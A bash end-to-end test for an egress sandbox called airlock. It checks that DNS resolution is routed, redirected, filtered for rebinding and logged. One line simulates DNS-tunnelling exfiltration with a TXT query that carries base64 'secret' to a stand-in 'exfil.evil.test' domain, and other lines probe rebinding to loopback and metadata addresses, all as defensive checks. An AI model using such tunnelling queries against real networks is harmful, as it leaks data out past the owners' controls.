#!/usr/bin/env bash
# DNS through `airlock run` in the test lab: the sandbox's stock resolvers
# (glibc via getent, python's getaddrinfo, dig) resolve allowed names
# through airlock's listener; a query aimed straight at another resolver
# address is redirected by nftables to airlock and answered by it; denied
# names and tunnelling attempts never reach the lab's resolver; rebinding
# answers are filtered. Every query is in the egress log.
. "$(dirname "$0")/../lib.sh"
. "$TESTS_DIR/lab/lib.sh"
lab_start

# expect_match from lib.sh pipes printf into grep -q: with pipefail, grep
# exiting at the first match can SIGPIPE the printf of a long text and fail
# a passing check. A here-string has no writer to kill.
expect_re() {
	grep -Eq -- "$2" <<<"$3" || fail "$1: '$3' does not match /$2/"
}

POL=$LAB_WORK/dns.yaml
cat >"$POL" <<-'YAML'
	version: 1
	name: dns-e2e
	allow:
	  - host: pypi.org
	  - host: rebind-loopback.test
	  - host: rebind-metadata.test
YAML

cat >"$LAB_WORK/inside.sh" <<-'SH'
	getent hosts pypi.org | sed 's/^/getent: /'
	python3 -c 'import socket; print("python:", sorted({a[4][0] for a in socket.getaddrinfo("pypi.org", 443)}))'
	echo "dig: $(dig +short +time=3 +tries=1 pypi.org A)"
	echo "other-resolver: $(dig +short +time=3 +tries=1 @198.51.100.53 pypi.org A)"
	dig +time=3 +tries=1 @198.51.100.53 evil.test A | grep -E 'status:|EDE' | sed 's/^/other-evil: /'
	dig +time=3 +tries=1 TXT c2VjcmV0.exfil.evil.test | grep -E 'status:' | sed 's/^/tunnel: /'
	echo "rebind: [$(dig +short +time=3 +tries=1 rebind-loopback.test A)]"
	echo "metadata: [$(dig +short +time=3 +tries=1 rebind-metadata.test A)]"
	echo "tcp: $(dig +tcp +short +time=3 +tries=1 pypi.org A)"
SH
out=$(airlock_lab "$POL" -- sh "$LAB_WORK/inside.sh" 2>&1) || true
printf '%s\n' "$out"

expect_re "getent" "getent: ($LAB_PYPI_V4|$LAB_PYPI_V6) +pypi.org" "$out"
expect_re "python getaddrinfo" "python: .*'$LAB_PYPI_V4'" "$out"
expect_re "dig" "dig: $LAB_PYPI_V4" "$out"
expect_re "dig at another resolver, answered by airlock" "other-resolver: $LAB_PYPI_V4" "$out"
expect_re "denied at another resolver: airlock's NXDOMAIN" "other-evil: .*status: NXDOMAIN" "$out"
expect_re "denied at another resolver: airlock's EDE" "other-evil: .*EDE: 15 \\(Blocked\\).*airlock" "$out"
expect_re "TXT tunnel" "tunnel: .*status: NXDOMAIN" "$out"
expect_re "rebinding to loopback filtered" 'rebind: \[\]' "$out"
expect_re "rebinding to metadata filtered" 'metadata: \[\]' "$out"
expect_re "TCP" "tcp: $LAB_PYPI_V4" "$out"

expect_dns_saw "allowed name" 'pypi\.org'
expect_dns_never_saw "denied names" 'evil\.test'
expect_logged "allowed query logged" 'e.get("kind") == "dns" and e.get("host") == "pypi.org" and e.get("verdict") == "allow" and "'"$LAB_PYPI_V4"'" in e.get("answers", [])'
expect_logged "denied query logged" 'e.get("kind") == "dns" and e.get("host") == "evil.test" and e.get("verdict") == "deny" and e.get("rcode") == "NXDOMAIN"'
expect_logged "tunnel logged" 'e.get("kind") == "dns" and e.get("host") == "c2vjcmv0.exfil.evil.test" and e.get("qtype") == "TXT"'
expect_logged "rebinding logged" 'e.get("kind") == "dns" and e.get("host") == "rebind-loopback.test" and "127.0.0.1 (loopback)" in e.get("detail", "")'
expect_logged "metadata logged" 'e.get("kind") == "dns" and e.get("host") == "rebind-metadata.test" and "link-local" in e.get("detail", "")'
expect_canaries_silent "dns"
echo "ok"
